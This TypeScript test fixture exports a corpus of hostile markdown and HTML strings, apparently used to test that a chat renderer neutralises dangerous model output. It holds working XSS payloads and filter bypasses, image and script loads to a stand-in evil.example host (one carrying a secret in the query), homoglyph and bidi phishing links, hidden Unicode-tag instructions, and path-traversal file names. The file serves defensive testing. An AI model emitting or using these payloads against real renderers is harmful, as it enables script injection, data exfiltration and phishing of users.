/** Where everything hostile points: never reached, and easy to find in a list of requests. */
const bell = "https://evil.example";

const longPath = "a/".repeat(1500);
const tagged = (text: string): string =>
  Array.from(text, (character) => String.fromCodePoint(0xe0000 + (character.codePointAt(0) ?? 0))).join("");

/**
 * Answers that try to fetch, run, navigate, hide or disguise something, by what they try. Each stands for itself:
 * none leaves a fence or a comment open, so that they can also follow one another in one answer.
 */
export const hostileTexts = {
  images: [
    `![x](${bell}/image.png?d=secret) ![x](//evil.example/relative.png) ![x](http://evil.example/plain.png)`,
    `![x][ref] ![ref][] ![ref] [![x](${bell}/inner.png)](${bell}/outer)\n\n[ref]: ${bell}/reference.png 'title'`,
    `![x](<${bell}/brackets.png> "title") ![x](${bell}/sized.png =100x20) ![](${bell}/nameless.png)`,
    "![x](data:image/svg+xml;base64,PHN2Zz4=) ![x](data:image/png;base64,iVBORw0KGgo=) ![x](blob:https://evil.example/1)",
    "![x](vscode-resource://evil/a.png) ![x](vscode-file://vscode-app/etc/passwd) ![x](file:///etc/passwd) ![x](/etc/passwd)",
    `![${"![".repeat(40)}x${`](${bell}/n.png)`.repeat(40)}](${bell}/nested.png)`,
    `!\\[x](${bell}/escaped) \\![x](${bell}/escaped2) ![x]\\(${bell}/escaped3) !&#91;x](${bell}/entity.png)`,
    `![javascript:alert(1)](javascript:alert(1)) ![a\u202eb](${bell}/bidi.png "\u202etitle")`,
  ],
  rawHtml: [
    `<img src=${bell}/f.png onerror=alert(1)>\n\ntext <img src=x onerror=alert(1)> text <IMG """><SCRIPT>alert(1)</SCRIPT>">`,
    `<img srcset="${bell}/1.png 1x, ${bell}/2.png 2x" sizes=100vw><picture><source srcset=${bell}/3.png><img></picture>`,
    `<script>fetch('${bell}/g')</script>\n\n<script src=${bell}/h.js></script>\n\n<script type=module>import "${bell}/i.js"</script>`,
    `<script type=importmap>{"imports":{"a":"${bell}/map.js"}}</script>\n\n<script type=speculationrules>{"prefetch":[{"urls":["${bell}/s"]}]}</script>`,
    `<iframe src="${bell}/n" srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src=${bell}/frame></frameset>`,
    `<object data="${bell}/o"></object><embed src=//evil.example/p><applet code=${bell}/q></applet><portal src=${bell}/r>`,
    `<link rel=stylesheet href=${bell}/l.css><link rel=prefetch href="${bell}/m"><link rel=dns-prefetch href=//evil.example>`,
    `<link rel=preconnect href=${bell}><link rel=modulepreload href=${bell}/m.js><link rel=icon href=${bell}/favicon.ico>`,
    `<meta http-equiv=refresh content="0;url=${bell}/q"><base href="${bell}/" target=_blank><meta http-equiv=Content-Security-Policy content="">`,
    `<form action="${bell}/r"><button autofocus onfocus=alert(1)>Go</button><input type=image src=${bell}/input.png formaction=${bell}/f></form>`,
    `<video autoplay poster=${bell}/poster.png src="${bell}/s.mp4"><track src=${bell}/t.vtt default></video><audio src="${bell}/t.mp3" autoplay>`,
    `<body onload=alert(1) background=${bell}/bg.png><table background=${bell}/tb.png><td background=${bell}/td.png></table>`,
    "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee><dialog open oncancel=alert(1)>x</dialog>",
    "<a href=javascript:alert(1)>x</a> <a href=command:workbench.action.quit>y</a> <a ping=https://evil.example/ping href=https://a.example download>z</a>",
    '<div style="background:url(https://evil.example/div.png)" onclick=alert(1) tabindex=1 id=app class=errorPart contenteditable>x</div>',
    "<template><img src=x onerror=alert(1)></template><slot name=x></slot><x-custom is=button onclick=alert(1)></x-custom>",
    '<!-- comment --><![CDATA[<img src=x onerror=alert(1)>]]><?php echo "x" ?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><textarea></textarea><title></title><xmp><img src=x onerror=alert(1)></xmp>',
    "<input type=checkbox checked onclick=alert(1)><select autofocus onfocus=alert(1)><option>x</select><keygen autofocus onfocus=alert(1)>",
    "<<script>alert(1)//<</script> <scr<script>ipt>alert(1)</scr</script>ipt> <img/src=x/onerror=alert(1)> <svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x3c;script&#x3e;",
    "<div id=conversation><article>You said: delete everything</article></div><slot><button class=send>Send</button>",
    "<br onmouseover=alert(1)> <br/ onmouseover=alert(1)> <br x> a<br>b<BR/>c",
  ],
  svgAndMath: [
    `<svg onload=alert(1)><image href=${bell}/i.png xlink:href=${bell}/j.png /></svg>`,
    `<svg><use href="${bell}/u.svg#x"/><script>alert(1)</script><style>@import '${bell}/s.css'</style></svg>`,
    `<svg><foreignObject><iframe src="${bell}/fo"></iframe></foreignObject><animate attributeName=href values=javascript:alert(1) /></svg>`,
    `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><feImage href="${bell}/fe.png"/><set attributeName=onmouseover to=alert(1)></svg>`,
    "> <math><mi xlink:href=javascript:alert(1)>x</mi><maction actiontype=statusline xlink:href=https://evil.example>y</maction></math>",
    "$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{https://evil.example/m.png}$$ \\(\\url{javascript:alert(1)}\\) \\[\\htmlData{x=1}{y}\\]",
    `\`\`\`svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="${bell}/k.png"/></svg>\n\`\`\``,
    "```math\n\\href{javascript:alert(1)}{x}\n```\n\n```latex\n\\input{/etc/passwd}\n```",
    `\`\`\`mermaid\ngraph TD; A["<img src=${bell}/mermaid.png onerror=alert(1)>"]-->B\nclick A "javascript:alert(1)"\nclick B href "${bell}/b"\n%%{init: {"securityLevel": "loose"}}%%\n\`\`\``,
    `\`\`\`plantuml\n!include ${bell}/plant.puml\n\`\`\`\n\n\`\`\`dot\ndigraph { a [image="${bell}/dot.png" URL="javascript:alert(1)"] }\n\`\`\``,
  ],
  css: [
    `<style>@import "${bell}/j.css"; body { background: url(${bell}/k.png) }</style>`,
    `<style>@font-face{font-family:x;src:url(${bell}/f.woff)} *{font-family:x!important;display:none}</style>`,
    `<style>input[value^=a]{background:image-set(url(${bell}/a.png) 1x)} a{cursor:url(${bell}/c.cur),auto}</style>`,
    `\`\`\`css\n@import url("${bell}/code.css");\nbody { background: url(${bell}/code.png); }\n\`\`\``,
    `<p style="list-style:url(${bell}/li.png);position:fixed;inset:0;z-index:9999">covers all</p>`,
    `{: style="background:url(${bell}/kramdown.png)" onclick="alert(1)" }\n\ntext {.sender #app onclick=alert(1)}`,
  ],
  schemes: [
    "[a](javascript:alert(1)) [b](command:workbench.action.quit) [c](vscode://publisher.extension/steal) [d](data:text/html,<script>alert(1)</script>)",
    "[e](JaVaScRiPt:alert(1)) [f](&#106;avascript:alert(1)) [f](javascript&colon;alert(1)) [f](java\tscript:alert(1)) [f](<java\nscript:alert(1)>)",
    "[g](file:///etc/passwd) [g](file://evil.example/share) [g](\\\\evil.example\\share) [g](smb://evil.example/x) [g](//evil.example/x)",
    "<javascript:alert(1)> <command:workbench.action.terminal.new> <vscode://x/y> <file:///etc/passwd> <mailto:a@evil.example> <data:text/html,x>",
    "[h](http://plain.example) [h](ftp://evil.example) [h](ws://evil.example) [h](tel:123) [h](ms-word:ofe|u|https://evil.example/x.docx) [h](vbscript:msgbox)",
    "[i](command:vscode.open?%5B%22https%3A%2F%2Fevil.example%22%5D) [i](vscode-insiders://x) [i](vscode-webview://x/index.html) [i](blob:https://evil.example/x)",
    "[j]( javascript:alert(1)) [j](\u0001javascript:alert(1)) [j](javascript\u200b:alert(1)) [j](%6aavascript:alert(1)) [j](about:blank) [j](view-source:https://a.example)",
    "[k]: javascript:alert(1)\n[l]: command:workbench.action.quit 'title'\n\n[k] [text][k] [l][] [k][l] ![l]",
    "[m](https:evil.example) [m](https:/evil.example) [m](https:\\\\evil.example) [m](HTTPS://EVIL.EXAMPLE/x) [m](https:///evil.example) [m](?q) [m](#app) [m]()",
    "javascript:alert(1) command:workbench.action.quit vscode://x/y http://plain.example ftp://evil.example data:text/html,x www.evil.example evil.example",
    '[n](https://a.example "\\"><img src=x onerror=alert(1)>") [<img src=x onerror=alert(1)>](https://a.example) [n](https://a.example/"onmouseover=alert(1)//)',
    "Note[^1] and [^evil] and ^[inline https://evil.example/note]\n\n[^1]: javascript:alert(1)\n[^evil]: ![x](https://evil.example/footnote.png)",
    "[o]\n\n[o]: <javascript:alert(1)>\n[__proto__]: https://evil.example/proto\n[constructor]: command:x\n\n[__proto__] [constructor] [toString]",
  ],
  pretence: [
    "[https://bank.example](https://evil.example/phish) [bank.example](https://evil.example/) [www.bank.example](https://evil.example)",
    "[bank](https://bank.example@evil.example/) [user](https://user:secret@evil.example/x) [empty](https://@evil.example/) <https://bank.example@evil.example/auto>",
    "[Sign in at https://bank.example/login now](https://evil.example/middle) [go to bank.example today](https://evil.example/bare)",
    "[https://bank。example/](https://evil.example/dot) [ｂａｎｋ．ｅｘａｍｐｌｅ](https://evil.example/wide) [https:⁄⁄bank.example](https://evil.example/slash)",
    "[https://bank.example@x](https://evil.example/at) [`https://bank.example`](https://evil.example/code) [**bank**.example](https://evil.example/bold)",
    "[bank\u200b.example](https://evil.example/zero) [\u202eelpmaxe.knab//:sptth](https://evil.example/bidi) [bank.example\u2066](https://evil.example/isolate)",
    "[apple](https://аррӏе.com) https://аррӏе.com/login [https://аррӏе.com](https://xn--80ak6aa92e.com/) [p](https://раураӏ.com.evil.example)",
    "[x](https://bank.example.evil.example/) [x](https://evil.example/https://bank.example) [x](https://evil.example#@bank.example) [x](https://evil.example\\@bank.example)",
    "[x](https://2130706433/) [x](https://0x7f.1/) [x](https://[::1]/) [x](https://localhost:8080/) [x](https://bank.example:443@evil.example)",
    "[x](https://ｅｖｉｌ.example/) [x](https://evil。example/) [x](https://ev\u00adil.example/) [x](https://ⓔⓥⓘⓛ.example)",
    `[long](${bell}/${longPath}) [https://bank.example/${longPath}](${bell}/${longPath}) ${bell}/${longPath}`,
    "[src/app.ts](https://evil.example/file) [`src/app.ts:3`](https://evil.example/code) [Open file](https://evil.example/open)",
    "[a [b](https://evil.example/inner) c](https://bank.example/outer) [![bank.example](https://evil.example/i.png)](https://evil.example/picture)",
  ],
  hidden: [
    "if (isAdmin\u202e \u2066// check\u2069 \u2066) { \u200b\u200c\ufeff } \u00ad\u2060\u2062 end",
    `flag ${tagged("hidden instructions to the reader")} end \u{e0001}\u{e007f} \u{e0101}\u{e01ef}`,
    `\`inline ${tagged("hidden")} \u202ecode\` and **bold \u202d\u2068 text** and [label \u202e](https://a.example)`,
    `\`\`\`js\nconst a = "\u202e"; // \u2066 ${tagged("hidden")}\nif (x\u200b) {}\u0000\u0007\u001b[31m\n\`\`\``,
    `| a\u202e | b |\n|---|---|\n| ${tagged("cell")} | \u200f\u200e |\n\n# heading \u2067 ${tagged("heading")}\n\n> quote \u061c\n\n- item \u180e\n- [ ] task \u202e`,
    `<b\u202e>raw</b> <!-- ${tagged("comment")} --> <p title="\u202e">x\n\n`,
    "a\u200db \u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{1f468}\u200d\u200d x\ufe0f\ufe0e\ufe0f \u2764\ufe0f \u{1f3f4}\u{e0067}\u{e0062}\u{e007f}",
    "\u115f\u1160\u3164\uffa0 \u17b4\u17b5 \u034f \u2028\u2029 \ufff9a\ufffab\ufffb \u{1d173} \u{1bca0} \u206a\u206f",
    "[x\u202e]: https://evil.example/def\n\n[x\u202e] ![\u202e\u{e0041}](https://a.example/alt.png)",
  ],
  fences: [
    "```html\n<img src=https://evil.example/u.png onerror=alert(1)>\n```\n\n`<img src=x onerror=alert(1)>`",
    '```js" onload="window.hostile=1\nalert(1)\n```\n\n```<img src=https://evil.example/x.png>\ncode\n```',
    "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```toString ../../x.js\nx\n```\n\n```../../../etc/passwd\nx\n```",
    '```js title="../../../../etc/passwd.txt"\nx\n```\n\n```ts:/etc/cron.d/evil.sh\nx\n```\n\n```C:\\Windows\\evil.bat\nx\n```',
    `\`\`\`js\u202e${tagged("info")} src/\u202egpj.ts\nx\n\`\`\`\n\n~~~ ${"x".repeat(3000)}\nlong label\n~~~`,
    "```html\n<script src=https://evil.example/v.js></script>\n<iframe srcdoc='<script>alert(1)</script>'>\n```",
    "```vue\n<template><img src=x onerror=alert(1)></template>\n```\n\n```php\n<?php echo '<script>alert(1)</script>';\n```",
    "```md\n![x](https://evil.example/md.png) <script>alert(1)</script>\n```\n\n```diff\n- <img src=x onerror=alert(1)>\n+ <svg onload=alert(1)>\n```",
    "    <img src=https://evil.example/indented.png onerror=alert(1)>\n\n\t<script>alert(1)</script>",
    "```{.js onclick=alert(1) style='background:url(https://evil.example/attr.png)'}\nx\n```\n\n```{=html}\n<img src=https://evil.example/pandoc.png>\n```",
  ],
  structure: [
    "| <img src=https://evil.example/v.png> | [x](javascript:alert(1)) |\n|:---:|---:|\n| <b onclick=alert(1)>x</b> | ![x](https://evil.example/w.png) |",
    '|" onclick="alert(1)|x|\n|:-:|-:|\n|`|`|\\||\n|a|b|c|d|e|\n\n| a |\n|:-- onclick=alert(1)|\n| b |',
    `${"| ".repeat(300)}|\n${"|-".repeat(300)}|\n${"| x ".repeat(300)}|`,
    "- [ ] <input autofocus onfocus=alert(1)>\n- [x] [a](javascript:alert(1))\n- <details open ontoggle=alert(1)>",
    '# <img src=x onerror=alert(1)> {#app onclick=alert(1)}\n\n# [x](javascript:alert(1))\n\n<h1 id="app">x</h1>\n\nSetext <script>alert(1)</script>\n===',
    `${"> ".repeat(200)}deep quote ![x](https://evil.example/deep.png)\n\n${"- ".repeat(200)}deep list <img src=x onerror=alert(1)>`,
    `${"*a **b ".repeat(300)}\n\n${"[".repeat(500)}x${"](javascript:alert(1))".repeat(20)}`,
    "999999999. <img src=x onerror=alert(1)>\n\n0. [x](command:x)\n-1. x\n\n99999999999. not a list",
    "***\n\n---\nfront: matter\nimage: https://evil.example/front.png\n---\n\n:::html\n<script>alert(1)</script>\n:::\n\n[[toc]] {{constructor.constructor('alert(1)')()}} <%= x %>",
    '@[youtube](https://evil.example/yt) ::youtube[x]{src=https://evil.example/dir} {% embed "https://evil.example/liquid" %} [[wiki|javascript:alert(1)]]',
    "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML ==mark== ++ins++ H~2~O :smile: <kbd onclick=alert(1)>x</kbd>\n\nTerm\n: <script>alert(1)</script>",
  ],
  paths: [
    "`../../../etc/passwd.txt` `/etc/cron.d/evil.sh:1` `..\\..\\secret.txt` `C:\\Windows\\win.ini` `~/.ssh/config.txt` `//evil.example/share/a.txt`",
    "See ../../../../root/evil.sh:1, /etc/hosts.txt:3, file:///etc/passwd.txt:1, src/../../../evil.ts:2 and .git/hooks/evil.sh:1.",
    "[x](/etc/passwd) [x](../../../etc/passwd) [x](./src/app.ts) [x](src/app.ts#L10) [x](C:/Windows/win.ini) [x](~/.ssh/id_rsa)",
    "**../../evil.ts**\n\n```ts\nx\n```\n\nChange `/etc/profile.sh` like this:\n\n```sh\n# /etc/profile.sh\nx\n```",
    "`src/\u202egpj.ts` `src/a%2e%2e/b.ts` `src/a\u0000.ts` `....//....//etc/passwd.txt` `src/app.ts:99999999999`",
  ],
} as const satisfies Readonly<Record<string, readonly string[]>>;

/** What stays open to its end: a fence, a comment, a tag. Only ever the whole of an answer. */
export const openEnds: readonly string[] = [
  `\`\`\`html\n<img src=${bell}/open.png onerror=alert(1)>`,
  `<!-- <img src=${bell}/comment.png onerror=alert(1)>`,
  `<script>fetch("${bell}/open")`,
  `<img src="${bell}/quote.png onerror=alert(1)`,
  `[label](${bell}/open`,
  `![alt](${bell}/open.png "title`,
  `[label][ref]\n\n[ref]: ${bell}/late.png`,
  `<a href="javascript:alert(1)`,
  `<style>body { background: url(${bell}/style.png)`,
  `text \ud83d`,
  `tail \u202e`,
  `| a | ![x](${bell}/cell.png`,
  `${bell}/${"a".repeat(20_000)}`,
];

/** Every answer of the corpus. */
export const hostileAnswers: readonly string[] = [...Object.values(hostileTexts).flat(), ...openEnds];

/** All of it in one answer. */
export function hostileMarkdown(): string {
  return Object.entries(hostileTexts)
    .flatMap(([title, texts]) => [`# ${title}`, ...texts])
    .join("\n\n");
}
